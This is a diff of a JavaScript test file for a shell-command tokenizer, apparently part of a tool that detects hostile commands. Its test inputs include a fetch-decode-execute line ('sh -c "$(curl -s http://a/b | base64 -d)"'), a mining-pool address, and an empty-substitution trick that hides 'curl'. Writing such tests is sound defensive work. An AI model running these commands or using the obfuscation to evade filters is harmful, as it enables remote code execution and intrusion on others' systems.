@@ -47,6 +47,13 @@ test('export makes a value known', () => {
   assert.deepEqual(words('export P=pool.example:3333; x -o $P')[1], ['x', '-o', 'pool.example:3333']);
 });
 
+test('empty substitutions between letters are nothing', () => {
+  assert.deepEqual(words('c$()url -s x``y; a $() b'), [
+    ['curl', '-s', 'xy'],
+    ['a', 'b'],
+  ]);
+});
+
 test('commands of substitutions follow the list that they occur in', () => {
   const commands = splitShell('sh -c "$(curl -s http://a/b | base64 -d)" | cat `id $(pwd)`');
   assert.deepEqual(
